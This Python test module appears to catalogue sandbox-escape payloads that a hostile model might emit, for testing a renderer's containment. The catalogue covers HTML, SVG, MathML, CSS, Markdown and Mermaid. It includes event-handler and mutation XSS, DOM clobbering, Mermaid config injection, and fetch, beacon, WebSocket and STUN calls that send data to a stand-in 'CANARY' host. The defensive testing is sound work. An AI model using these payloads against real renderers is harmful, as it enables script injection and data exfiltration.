"""What a hostile model may write: hundreds of pieces of HTML, SVG, MathML, CSS and Mermaid that try to leave their place.

`CANARY` stands for the host and port of a listener, which nobody may ever ask. A script that runs where it must not sets
`owned` in its window and in those above.
"""

from __future__ import annotations

from itertools import product

CANARY = "CANARY"
WEB = f"http://{CANARY}/x"
OWN = "try{top.owned=1}catch{};try{parent.owned=1}catch{};window.owned=1"

EVENTS = {
    "onerror": "<img src=x {}>",
    "onload": "<svg {}></svg>",
    "onfocus": "<input autofocus {}>",
    "ontoggle": "<details open {}>a</details>",
    "onbegin": "<svg><animate attributeName=x dur=1s {}></animate></svg>",
    "onpageshow": "<body {}>",
    "onanimationstart": "<style>@keyframes k{{}}</style><b style=animation:k {}>a</b>",
    "onstart": "<marquee {}>a</marquee>",
    "oncanplay": "<video autoplay {}><source src=data:video/mp4;base64,AAAA></video>",
    "onloadstart": "<audio src=data:audio/wav;base64,AAAA {}></audio>",
    "onscroll": "<div style=overflow:auto;height:1px {}><p>a<p>a</div>",
    "onresize": "<body {}>",
}
WRITINGS = (
    '{}="{}"',
    "{}='{}'",
    '{}=\t"{}"',
    '/{}="{}"',
    '{}\n="{}"',
    'x="`"{}="{}"',
)
SCRIPTS = [
    f"<script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT>",
    f"<script/x>{OWN}</script>",
    f"<scr<script>ipt>{OWN}</script>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><script href='data:text/javascript,{OWN}'></script></svg>",
    f"<math><mtext><script>{OWN}</script></mtext></math>",
    f"<script type=module>{OWN}</script>",
    f"<script src=//{CANARY}/s.js></script>",
    f"<script src='data:text/javascript,{OWN}'></script>",
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{WEB}"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"a":"{WEB}"}}}}</script><script type=module>import \'a\'</script>',
]
FOREIGN = [
    f"<svg><foreignObject><img src=x onerror='{OWN}'></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{OWN}'><text y=9>a</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>{OWN}</script></svg>#a'/></svg>",
    f"<svg><use href='{WEB}#a'/></svg>",
    f"<svg><image href='{WEB}'/></svg>",
    f"<svg><feImage href='{WEB}'/></svg>",
    f"<svg><set attributeName=href to='javascript:{OWN}'/><a><text>a</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{OWN}'/></svg>",
    f"<svg><style>@import '{WEB}';</style></svg>",
    f"<svg><style>&lt;img src=x onerror={OWN}&gt;</style></svg>",
    f"<svg><title><![CDATA[</title><img src=x onerror={OWN}>]]></svg>",
    f'<svg><desc><noscript><p title="</noscript><img src=x onerror={OWN}>"></desc></svg>',
    f"<math href='javascript:{OWN}'><mi>a</mi></math>",
    f"<math><mi xlink:href='javascript:{OWN}'>a</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror='{OWN}'></annotation-xml></math>",
    f"<math><maction actiontype=statusline href='javascript:{OWN}'>a</maction></math>",
    f"<math><mglyph><style><img src=x onerror={OWN}></style></mglyph></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={OWN}></style></form>",
    f'<svg></p><style><a id="</style><img src=x onerror={OWN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>',
    f"<template><img src=x onerror='{OWN}'></template>",
    f"<template shadowrootmode=open><img src=x onerror='{OWN}'></template>",
    f"<textarea><img src=x onerror={OWN}></textarea>",
    f"<title></title><img src=x onerror='{OWN}'>",
    f'<xmp><p title="</xmp><svg/onload={OWN}>">',
    f'<iframe srcdoc="<script>{OWN}</script>"></iframe>',
    f"<listing>&lt;img onerror={OWN} src=x&gt;</listing>",
    f"<select><style></select><img src=x onerror={OWN}></style></select>",
    f"<table><td><svg><td><style></svg><img src=x onerror={OWN}></style>",
]
CLOBBERING = [
    "<form id=document></form>",
    "<img name=getElementById>",
    "<form name=body><input name=append></form>",
    "<a id=parent></a><a id=parent name=postMessage href=x:y></a>",
    "<input name=attributes><form id=x><input name=attributes><input name=nodeName></form>",
    "<a id=defaultView></a>",
    "<img id=currentScript name=currentScript>",
    "<form id=location></form>",
    "<iframe name=top></iframe>",
    "<object id=cookie></object>",
    "<embed name=querySelector>",
    "<a id=__proto__></a>",
]
FETCHES = [
    "<p><template shadowrootmode=closed><iframe srcdoc='<script>PEER</script>'></iframe></template></p>",
    "<iframe srcdoc='<script>PEER</script>'></iframe>",
    f"<img src={WEB}>",
    f"<img srcset='{WEB} 1x'>",
    f"<picture><source srcset={WEB}><img></picture>",
    f"<video src={WEB} autoplay></video>",
    f"<video poster={WEB}></video>",
    f"<audio src={WEB} autoplay></audio>",
    f"<track src={WEB}>",
    f"<object data={WEB}></object>",
    f"<embed src={WEB}>",
    f"<applet code={WEB}></applet>",
    f"<iframe src={WEB}></iframe>",
    f"<frameset><frame src={WEB}></frameset>",
    f"<portal src={WEB}></portal>",
    f"<fencedframe src={WEB}></fencedframe>",
    f"<link rel=stylesheet href={WEB}>",
    f"<link rel=icon href={WEB}>",
    f"<link rel=preload as=script href={WEB}>",
    f"<link rel=modulepreload href={WEB}>",
    f"<link rel=prefetch href={WEB}>",
    f"<link rel=prerender href={WEB}>",
    f"<link rel=preconnect href={WEB}>",
    f"<link rel=dns-prefetch href={WEB}>",
    f"<link rel=manifest href={WEB}>",
    f"<link rel=import href={WEB}>",
    f"<link rel='preload' as='image' imagesrcset='{WEB} 1x'>",
    f"<body background={WEB}>",
    f"<table background={WEB}><td background={WEB}>a</table>",
    f"<input type=image src={WEB}>",
    f"<html manifest={WEB}>",
    f"<meta http-equiv=Link content='<{WEB}>; rel=preconnect'>",
    f"<base href=http://{CANARY}/><img src=relative.png>",
    f"<image src={WEB}>",
    f"<a ping={WEB} href=#a id=p>a</a><script>document.getElementById('p').click()</script>",
]
STYLES = [
    f"background:url({WEB})",
    f"background:url(//{CANARY}/x)",
    f"background:image-set('{WEB}' 1x)",
    f"background:\\75rl({WEB})",
    f"list-style:url({WEB})",
    f"cursor:url({WEB}),auto",
    f"content:url({WEB})",
    f"border-image:url({WEB})",
    f"mask:url({WEB})",
    f"filter:url({WEB}#f)",
    f"clip-path:url({WEB}#c)",
    f"shape-outside:url({WEB})",
    f"--x:url({WEB});background:var(--x)",
    f"behavior:url({WEB})",
    f"-moz-binding:url({WEB})",
    f"background:-webkit-cross-fade(url({WEB}),url({WEB}),50%)",
]
SHEETS = [
    f"@import '{WEB}';",
    f"@import url({WEB});",
    f"@font-face{{font-family:f;src:url({WEB})}}*{{font-family:f}}",
    f"input[value^=a]{{background:url({WEB})}}",
    f"@namespace url({WEB});",
    f"@property --p{{syntax:'<image>';inherits:true;initial-value:url({WEB})}}*{{background:var(--p)}}",
    f"*{{background:url({WEB})}}",
    f"::cue{{background:url({WEB})}}",
]
PROGRAMS = [
    f"fetch('{WEB}',{{mode:'no-cors'}})",
    f"fetch('{WEB}',{{keepalive:true,mode:'no-cors',method:'POST'}})",
    f"navigator.sendBeacon('{WEB}','a')",
    f"new WebSocket('ws://{CANARY}/x')",
    f"new EventSource('{WEB}')",
    f"new WebTransport('https://{CANARY}/x')",
    f"let x=new XMLHttpRequest();x.open('GET','{WEB}');x.send()",
    f"new Image().src='{WEB}'",
    f"import('{WEB}')",
    f"new Worker('{WEB}')",
    f"new Worker(URL.createObjectURL(new Blob(['fetch(\"{WEB}\")'])))",
    f"new SharedWorker('{WEB}')",
    f"navigator.serviceWorker.register('{WEB}')",
    "navigator.serviceWorker.register('service-worker.js')",
    f"new Audio('{WEB}').play()",
    f"new FontFace('f','url({WEB})').load()",
    f"document.fonts.load('1px f');CSS.paintWorklet.addModule('{WEB}')",
    f"window.open('{WEB}')",
    f"window.open('{WEB}','_top')",
    f"window.open('{WEB}','_parent')",
    f"top.location='{WEB}'",
    f"parent.location.href='{WEB}'",
    f"top.location.replace('{WEB}')",
    f"let a=document.createElement('a');a.href='{WEB}';a.target='_top';document.body.append(a);a.click()",
    f"let a=document.createElement('a');a.href='{WEB}';a.target='_blank';document.body.append(a);a.click()",
    f"let a=document.createElement('a');a.href='{WEB}';a.download='a';document.body.append(a);a.click()",
    f"let f=document.createElement('form');f.action='{WEB}';f.target='_top';document.body.append(f);f.submit()",
    f"let l=document.createElement('link');l.rel='preconnect';l.href='{WEB}';document.head.append(l)",
    f"let l=document.createElement('link');l.rel='prefetch';l.href='{WEB}';document.head.append(l)",
    f"let f=document.createElement('iframe');f.src='{WEB}';document.body.append(f)",
    f"let f=document.createElement('iframe');f.src='javascript:fetch(\"{WEB}\")';document.body.append(f)",
    f"let f=document.createElement('iframe');document.body.append(f);f.contentWindow.fetch('{WEB}')",
    f"let f=document.createElement('iframe');f.srcdoc='<img src={WEB}>';document.body.append(f)",
    "top.document.title='taken'",
    "parent.document.body.innerHTML='taken'",
    "top.localStorage.clear()",
    "localStorage.setItem('a','b')",
    "document.cookie='a=b'",
    "indexedDB.open('a')",
    "caches.open('a')",
    "parent.eval('window.owned=1')",
    "parent.postMessage({kind:'document',html:'<script>window.owned=1</script>'},'*')",
    "parent.postMessage({kind:'ready'},'*')",
    "parent.postMessage({kind:'height',height:1e308},'*')",
    "parent.postMessage({kind:'height',height:NaN},'*')",
    "parent.postMessage({kind:'drawn',svg:'<svg onload=window.owned=1>'},'*')",
    "parent.postMessage({kind:'failed',sentence:'<img src=x onerror=window.owned=1>'.repeat(1e4)},'*')",
    "parent.postMessage({kind:'__proto__',__proto__:{owned:1}},'*')",
    "parent.postMessage(null,'*');parent.postMessage([],'*');parent.postMessage('ready','*')",
    "top.postMessage({type:'webpackOk',data:1},'*')",
    "alert(1)",
    "confirm(1);prompt(1);print()",
    "onbeforeunload=()=>1",
    "history.pushState(0,0,'/taken');history.back()",
    "navigator.clipboard.writeText('taken')",
    "navigator.geolocation.getCurrentPosition(()=>0)",
    "navigator.mediaDevices.getUserMedia({audio:true})",
    "Notification.requestPermission()",
    "document.documentElement.requestFullscreen()",
    "document.documentElement.requestPointerLock()",
    "new PaymentRequest([{supportedMethods:'https://x.example'}],{total:{label:'a',amount:{currency:'EUR',value:'1'}}}).show()",
    "navigator.credentials.get({password:true})",
    "navigator.share({text:'a'})",
    "new BroadcastChannel('a').postMessage('a')",
    "parent.frames[0].location='about:blank'",
    "Object.defineProperty(parent,'owned',{value:1})",
]
# A new realm has what was taken from the frame's own.
PEER = (
    f"let c=new w.RTCPeerConnection({{iceServers:[{{urls:'stun:{CANARY}'}}]}});c.createDataChannel('a');"
    "c.createOffer().then(o=>c.setLocalDescription(o))"
)
INNER = f"<script>let w=window;{PEER}<\\/script>".replace("'", "`")
PROGRAMS += [
    f"let f=document.createElement('iframe');f.srcdoc='{INNER}';document.body.append(f)",
    f"let f=document.createElement('iframe');document.body.append(f);f.setAttribute('srcdoc','{INNER}')",
    "let d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<iframe></iframe>';"
    "d.attachShadow({mode:'closed'})",
    f"let d=document.createElement('p');document.body.append(d);let s=d.attachShadow({{mode:'closed'}});"
    f"let f=document.createElement('iframe');f.srcdoc='{INNER}';s.append(f)",
    f"document.write('<iframe srcdoc=\"{INNER}\"></iframe>')",
    f"document.open();document.write('<template shadowroot');document.write('mode=closed><iframe srcdoc=\"{INNER}\"></iframe>')",
    f"document.body.setHTMLUnsafe('<p><template shadowrootmode=closed><iframe srcdoc=\"{INNER}\"></iframe></template></p>')",
    f"let w=window;{PEER}",
    f"let f=document.createElement('iframe');document.body.append(f);let w=f.contentWindow;{PEER}",
    f"let f=document.createElement('iframe');f.srcdoc='a';document.body.append(f);"
    f"f.onload=()=>{{let w=f.contentWindow;{PEER}}}",
    f"let f=document.createElement('object');f.data='about:blank';document.body.append(f);"
    f"setTimeout(()=>{{let w=f.contentWindow;{PEER}}},99)",
]

LEAVING = [
    f"<script>location='{WEB}'</script>",
    f"<meta http-equiv=refresh content='0;url={WEB}'>",
    f"<form action={WEB}><button id=b></form><script>b.click()</script>",
    "<script>location='/api/capabilities'</script>",
    f"<script>location='data:text/html,<script>fetch(\"{WEB}\")<\\/script>'</script>",
    f"<script>location=URL.createObjectURL(new Blob(['<img src={WEB}>'],{{type:'text/html'}}))</script>",
    f"<script>location='javascript:fetch(`{WEB}`)'</script>",
]
"""These replace their whole frame, so each needs one of its own."""

MARKDOWN = [
    f"[a](javascript:{OWN})",
    f"[a](JaVaScRiPt&colon;{OWN})",
    f"[a](\x01javascript:{OWN})",
    f"[a](data:text/html,<script>{OWN}</script>)",
    f"[a](vbscript:{OWN})",
    f"<javascript:{OWN}>",
    f"![a]({WEB})",
    f'![a]("onerror="{OWN})',
    f"[![a]({WEB})](javascript:{OWN})",
    f"[a]: javascript:{OWN}",
    f"`<img src=x onerror={OWN}>`",
    f"[a](//{CANARY}/x 'b\" onmouseover=\"{OWN}')",
    f"$\\href{{javascript:{OWN}}}{{a}}$",
    f"$\\includegraphics{{{WEB}}}$",
    f"$\\htmlData{{onclick={OWN}}}{{a}}$",
    f"$\\url{{javascript:{OWN}}}$",
    "$\\def\\a{\\a\\a}\\a$",
    f"[^a]: <img src=x onerror={OWN}>",
    f"|a|\n|-|\n|<img src=x onerror={OWN}>|",
    f"- [x] <img src=x onerror={OWN}>",
]

MERMAID = [
    f'graph TD\n A["<img src=x onerror={OWN}>"]',
    f'graph TD\n A["<img src={WEB}>"]',
    f'graph TD\n A["<iframe srcdoc=<script>{OWN}</script>></iframe>"]',
    f'graph TD\n A-->B\n click A "javascript:{OWN}"',
    f'graph TD\n A-->B\n click A href "javascript:{OWN}" _top',
    "graph TD\n A-->B\n click A call eval(window.owned=1)",
    f'graph TD\n A-->B\n click A "{WEB}" _top',
    f'%%{{init: {{"securityLevel":"loose","flowchart":{{"htmlLabels":true}}}}}}%%\ngraph TD\n A["<img src=x onerror={OWN}>"]',
    f'%%{{init: {{"themeCSS":"*{{background:url({WEB})}}"}}}}%%\ngraph TD\n A-->B',
    f'%%{{init: {{"themeCSS":"@import url({WEB});"}}}}%%\ngraph TD\n A-->B',
    f'%%{{init: {{"fontFamily":"x\\"}}</style><script>{OWN}</script>"}}}}%%\ngraph TD\n A-->B',
    '%%{init: {"__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}}}}%%\ngraph TD\n A-->B',
    f'%%{{init: {{"dompurifyConfig":{{"ADD_TAGS":["script"]}}}}}}%%\ngraph TD\n A["<script>{OWN}</script>"]',
    f"graph TD\n A-->B\n classDef a background:url({WEB})\n class A a",
    f"graph TD\n A-->B\n style A fill:url({WEB})",
    f'---\ntitle: "<img src=x onerror={OWN}>"\nconfig:\n  securityLevel: loose\n---\ngraph TD\n A-->B',
    f"sequenceDiagram\n A->>B: <img src=x onerror={OWN}>",
    f'sequenceDiagram\n participant A\n links A: {{"a": "javascript:{OWN}"}}',
    f'classDiagram\n class A\n click A call eval(window.owned=1)\n link A "javascript:{OWN}"',
    f"stateDiagram-v2\n a: <script>{OWN}</script>\n [*] --> a",
    f'erDiagram\n A ||--o{{ B : "<img src=x onerror={OWN}>"',
    f'gantt\n title <img src=x onerror={OWN}>\n section a\n b :a1, 2020-01-01, 1d\n click a1 href "javascript:{OWN}"',
    f'pie title <img src=x onerror={OWN}>\n "<img src=x onerror={OWN}>" : 1',
    f"mindmap\n root((<img src=x onerror={OWN}>))",
    f'graph TD\n A["$$\\href{{javascript:{OWN}}}{{a}}$$"]',
    f'graph TD\n A@{{ img: "{WEB}" }}',
    f'graph TD\n A@{{ icon: "</svg><img src=x onerror={OWN}>" }}',
    f'gitGraph\n commit id: "<img src=x onerror={OWN}>"',
    f"journey\n title <img src=x onerror={OWN}>\n section a\n b: 5: c",
    f"timeline\n title <img src=x onerror={OWN}>\n a : b",
]


def handlers() -> list[str]:
    """Every event in every way of writing an attribute."""
    return [
        markup.format(writing.format(event, OWN))
        for (event, markup), writing in product(EVENTS.items(), WRITINGS)
    ]


def documents() -> list[str]:
    """Pieces of HTML that can stand in one document, side by side."""
    styled = [f'<p style="{style}">a</p>' for style in STYLES]
    sheets = [f"<style>{sheet}</style><input value=a>" for sheet in SHEETS]
    programs = [f"<script>(async()=>{{{program}}})().catch(()=>0)</script>" for program in PROGRAMS]
    peers = [piece.replace("PEER", f"let w=window;{PEER}".replace("'", "`")) for piece in FETCHES]
    return [*programs, *handlers(), *SCRIPTS, *styled, *sheets, *peers, *FOREIGN, *CLOBBERING]
